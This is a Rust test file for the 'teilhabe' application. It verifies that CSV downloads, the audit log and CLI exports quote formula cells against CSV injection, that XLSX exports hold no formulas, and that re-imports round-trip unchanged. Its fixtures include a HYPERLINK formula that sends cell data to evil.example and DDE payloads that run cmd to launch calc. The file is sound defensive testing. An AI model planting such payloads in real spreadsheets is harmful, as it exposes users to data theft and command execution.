//! CSV files teilhabe writes never carry a cell a spreadsheet would run as a formula (OWASP "CSV
//! injection"): such cells get a leading `'`, and `import measures` reads them back unchanged.

use reqwest::StatusCode;
use teilhabe_testkit::Backend;

use crate::site::{Site, teilhabe};

const TITLE: &str = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Klick\")";
const ORGANISATION: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const CONTACT: &str = "+49 521 51-0";
const DESCRIPTION: &str = "-2+3+cmd|' /C calc'!A0";

fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(bytes)
        .records()
        .map(|record| record.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// No cell starts the way a spreadsheet formula does, except plain numbers and the `-` sign.
fn assert_no_formula(name: &str, rows: &[Vec<String>]) {
    for cell in rows.iter().flatten() {
        let plain_number = cell.parse::<f64>().is_ok()
            && cell
                .bytes()
                .all(|b| b.is_ascii_digit() || b"+-.".contains(&b));
        let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
        assert!(
            !formula || plain_number || cell == "-",
            "{name}: the cell {cell:?} would run as a formula"
        );
    }
}

/// Does the first worksheet of `path` hold `text` as a text cell? It must hold no formula.
fn xlsx_has_text(path: &std::path::Path, text: &str) -> bool {
    use calamine::Reader;
    let mut xlsx: calamine::Xlsx<_> = calamine::open_workbook(path).unwrap();
    let name = xlsx.sheet_names()[0].clone();
    let formulas = xlsx.worksheet_formula(&name).unwrap();
    assert!(
        formulas.cells().all(|(_, _, formula)| formula.is_empty()),
        "{}: XLSX holds no formula",
        path.display()
    );
    let range = xlsx.worksheet_range(&name).unwrap();
    range
        .cells()
        .any(|(_, _, cell)| cell == &calamine::Data::String(text.into()))
}

async fn get_bytes(client: &reqwest::Client, url: &str) -> Vec<u8> {
    let response = client.get(url).send().await.unwrap();
    assert_eq!(response.status(), StatusCode::OK, "{url}");
    response.bytes().await.unwrap().to_vec()
}

#[tokio::test(flavor = "multi_thread")]
async fn formula_cells_are_quoted_in_every_csv_and_import_again_unchanged() {
    let site = Site::start(Backend::Sqlite).await;
    let token = site.token("administrator", None).await;
    let response = site
        .anonymous()
        .post(site.url("/api/v1/measures"))
        .bearer_auth(&token)
        .json(&serde_json::json!({
            "title": {"de": TITLE},
            "description": {"de": DESCRIPTION},
            "organisation": ORGANISATION,
            "contact": CONTACT,
            "recommendations": ["sport-3"],
            "working_group": "sport",
            "published": true,
        }))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::CREATED);

    // The public measures download.
    let rows = csv_rows(&get_bytes(&site.anonymous(), &site.url("/massnahmen/download/csv")).await);
    assert_no_formula("/massnahmen/download/csv", &rows);
    let header = rows[0].clone();
    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
    let row = rows
        .iter()
        .find(|row| row[column("title_de")].contains("HYPERLINK"))
        .expect("the measure is in the file")
        .clone();
    assert_eq!(row[column("title_de")], format!("'{TITLE}"));
    assert_eq!(row[column("organisation")], format!("'{ORGANISATION}"));
    assert_eq!(row[column("contact")], format!("'{CONTACT}"));
    assert_eq!(row[column("description_de")], format!("'{DESCRIPTION}"));
    assert_eq!(row[column("progress")], "0", "numbers stay numbers");

    // The audit log's CSV (it records every cell of the new measure).
    let (admin, _) = site.sign_in("admin").await;
    let audit = csv_rows(&get_bytes(&admin, &site.url("/verwaltung/protokoll?format=csv")).await);
    assert_no_formula("audit CSV", &audit);
    assert!(
        audit
            .iter()
            .flatten()
            .any(|cell| cell == &format!("'{TITLE}")),
        "the audit log lists the title"
    );

    // `export measures` writes the same; importing that file again changes nothing.
    let directory = tempfile::tempdir().unwrap();
    let exported = directory.path().join("massnahmen.csv");
    let output = teilhabe(
        &site.database,
        &["export", "measures", "--out", exported.to_str().unwrap()],
    );
    assert!(output.status.success(), "{output:?}");
    let bytes = std::fs::read(&exported).unwrap();
    assert_no_formula("export measures", &csv_rows(&bytes));
    let output = teilhabe(
        &site.database,
        &[
            "import",
            "measures",
            exported.to_str().unwrap(),
            "--dry-run",
        ],
    );
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(output.status.success(), "{output:?}");
    assert!(stdout.contains("would change 0"), "{stdout}");

    // XLSX holds the title as a text cell, unquoted, and no formula.
    let workbook = directory.path().join("massnahmen.xlsx");
    let output = teilhabe(
        &site.database,
        &["export", "measures", "--out", workbook.to_str().unwrap()],
    );
    assert!(output.status.success(), "{output:?}");
    assert!(xlsx_has_text(&workbook, TITLE));

    // The exported CSV row, imported as a new measure into another site, has the original title.
    let fresh = Site::start(Backend::Sqlite).await;
    let header_line = String::from_utf8_lossy(&bytes)
        .lines()
        .next()
        .unwrap()
        .to_owned();
    let mut writer = csv::Writer::from_writer(Vec::new());
    let mut single = row.clone();
    single[0].clear();
    writer.write_record(&single).unwrap();
    let single_file = directory.path().join("eine.csv");
    std::fs::write(
        &single_file,
        format!(
            "{header_line}\n{}",
            String::from_utf8(writer.into_inner().unwrap()).unwrap()
        ),
    )
    .unwrap();
    let output = teilhabe(
        &fresh.database,
        &["import", "measures", single_file.to_str().unwrap()],
    );
    assert!(output.status.success(), "{output:?}");
    let workbook = directory.path().join("neu.xlsx");
    let output = teilhabe(
        &fresh.database,
        &["export", "measures", "--out", workbook.to_str().unwrap()],
    );
    assert!(output.status.success(), "{output:?}");
    assert!(
        xlsx_has_text(&workbook, TITLE),
        "the imported title is the original"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn indicator_downloads_quote_formula_footnotes() {
    let site = Site::start(Backend::Sqlite).await;
    let directory = tempfile::tempdir().unwrap();
    let data = directory.path().join("vhs-kurse-kinderbetreuung.csv");
    std::fs::write(
        &data,
        "Year,Geschlecht,Herkunft,Altersgruppe,GeoCode,Units,Value,Status,Footnote\n\
         2023,,,,,Prozent,4.9,A,\"=HYPERLINK(\"\"https://evil.example\"\")\"\n",
    )
    .unwrap();
    std::fs::write(
        directory
            .path()
            .join("vhs-kurse-kinderbetreuung.mapping.toml"),
        crate::site::demo_monitoring_file("vhs-kurse-kinderbetreuung.mapping.toml"),
    )
    .unwrap();
    let output = teilhabe(&site.database, &["import", "table", data.to_str().unwrap()]);
    assert!(output.status.success(), "{output:?}");

    let quoted = "'=HYPERLINK(\"https://evil.example\")";
    for format in ["csv", "sdmx-csv"] {
        let url = site.url(&format!(
            "/indikatoren/vhs-kurse-kinderbetreuung/download/{format}"
        ));
        let rows = csv_rows(&get_bytes(&site.anonymous(), &url).await);
        assert_no_formula(format, &rows);
        assert!(
            rows.iter().flatten().any(|cell| cell.starts_with(quoted)),
            "{format}: {rows:?}"
        );
        let output = teilhabe(
            &site.database,
            &[
                "export",
                "indicator",
                "vhs-kurse-kinderbetreuung",
                "--format",
                format,
            ],
        );
        assert!(output.status.success(), "{output:?}");
        let rows = csv_rows(&output.stdout);
        assert_no_formula(&format!("export indicator --format {format}"), &rows);
        assert!(rows.iter().flatten().any(|cell| cell.starts_with(quoted)));
    }

    // The workbook download holds the footnote as a text cell, unquoted, and no formula.
    let bytes = get_bytes(
        &site.anonymous(),
        &site.url("/indikatoren/vhs-kurse-kinderbetreuung/download/xlsx"),
    )
    .await;
    let workbook = directory.path().join("vhs.xlsx");
    std::fs::write(&workbook, bytes).unwrap();
    assert!(xlsx_has_text(&workbook, &quoted[1..]));
}
